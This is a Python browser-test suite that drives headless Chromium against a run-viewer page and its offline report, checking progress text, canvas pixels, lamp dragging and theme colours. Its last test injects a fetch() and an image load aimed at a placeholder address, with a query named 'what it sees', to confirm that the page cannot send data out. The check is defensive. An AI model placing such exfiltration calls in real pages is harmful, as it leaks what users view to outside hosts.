"""The page of a run in a real browser: headless Chromium, its pixels looked at."""

import re

import fake_run
import numpy as np
import pytest
from chromium import Followed, brown, canvas_picture, canvas_pixels, open_page, wait_until

from viewer.report.report import write_report

pytestmark = pytest.mark.browser


@pytest.fixture
def followed(tmp_path, truth):
    run = tmp_path / "heap"
    fake_run.start_run(run, truth)
    it = Followed(run)
    it.truth = truth
    yield it
    it.close()


def brown_pixels(tab) -> int:
    return brown(canvas_picture(tab))


def test_the_page_shows_a_growing_mesh_and_a_reload_shows_where_the_run_is_now(browser, followed):
    tab, bad = open_page(browser, followed.url)
    tab.get_by_text("34 of 120").wait_for()
    wait_until(tab, lambda: brown_pixels(tab) > 2000)

    fake_run.log_line(followed.run_dir, 50.0, "solve", 77, 120, "grid of 128", loss_shadow=0.02)
    tab.get_by_text("77 of 120").wait_for()
    tab.reload()
    tab.get_by_text("77 of 120").wait_for()
    tab.get_by_text("Fitting the surface").wait_for()
    wait_until(tab, lambda: brown_pixels(tab) > 2000)
    tab.get_by_text("Show", exact=True).click()
    tab.get_by_label("Surface").uncheck()
    wait_until(tab, lambda: brown_pixels(tab) < 2000)  # only the bulbs are left, and what the lamp does to them
    assert not bad
    tab.close()


@pytest.mark.slow
def test_the_lamp_is_dragged_and_the_surface_shows_its_light(browser, followed):
    fake_run.finish_run(followed.run_dir, followed.truth)
    tab, bad = open_page(browser, followed.url)
    tab.get_by_text("Open the result").wait_for()
    page = followed.page
    tab.locator("input[type=text]").first.fill("5")  # chosen by number: the lamp goes where that photo's light was
    tab.keyboard.press("Enter")
    wait_until(tab, lambda: page._lights[4].bulb.scale == 1.5)
    place = np.array(page._lamp.handle.position)
    np.testing.assert_allclose(place, page._lights[4].bulb.position)
    before = canvas_pixels(tab)  # dragged by the blue arrow, upwards
    v, u = np.nonzero((before[..., 2] - before[..., 0] > 120) & (before[..., 2] > 200))
    box, top = tab.locator("canvas").first.bounding_box(), np.argmin(v)
    at = box["x"] + float(u[top]), box["y"] + float(v[top]) + 6
    tab.mouse.move(*at)
    tab.mouse.down()
    tab.mouse.move(at[0], at[1] - 40, steps=6)
    tab.mouse.up()
    wait_until(tab, lambda: page._lamp.handle.position[2] > place[2] + 0.1)
    assert np.abs(canvas_pixels(tab) - before).mean() > 0.5
    assert not bad
    tab.close()


def test_the_report_opens_from_a_file_in_light_and_dark_without_a_complaint(browser, tmp_path, truth):
    fake_run.start_run(tmp_path, truth)
    fake_run.finish_run(tmp_path, truth)
    address = write_report(tmp_path).as_uri()
    tab = browser.new_page(viewport={"width": 420, "height": 800})
    bad = []
    tab.on("console", lambda message: bad.append(message.text))
    tab.on("request", lambda r: None if r.url.startswith(("data:", address)) else bad.append(r.url))
    shades = []
    for scheme in ("light", "dark"):
        tab.emulate_media(color_scheme=scheme)
        tab.goto(address)
        colour = tab.evaluate("getComputedStyle(document.body).backgroundColor")
        shades.append(int(re.findall(r"\d+", colour)[0]))
        assert tab.evaluate("document.documentElement.scrollWidth <= innerWidth"), "nothing sticks out on a phone"
        assert tab.evaluate("[...document.images].every(img => img.complete && img.naturalWidth > 0)")
    assert shades[0] > 200 > 60 > shades[1]
    assert not bad
    tab.close()


NOT_OURS = "http://192.0.2.1/"  # an address of nobody [RFC 5737]


def test_nothing_that_gets_into_the_page_can_send_what_it_sees_elsewhere(browser, followed):
    (tab, _), left = open_page(browser, followed.url, is_drawn=False), []  # its network ends at this machine
    tab.route(lambda url: not url.startswith((followed.url, "data:", "blob:")), lambda r: left.append(r) or r.abort())
    tab.wait_for_selector("canvas")
    tab.evaluate(f"fetch('{NOT_OURS}?what=it+sees', {{mode: 'no-cors'}}).catch(() => 0)")
    tab.evaluate(f"new Promise(done => {{ const i = new Image(); i.onerror = done; i.src = '{NOT_OURS}'; }})")
    assert not left
    tab.close()
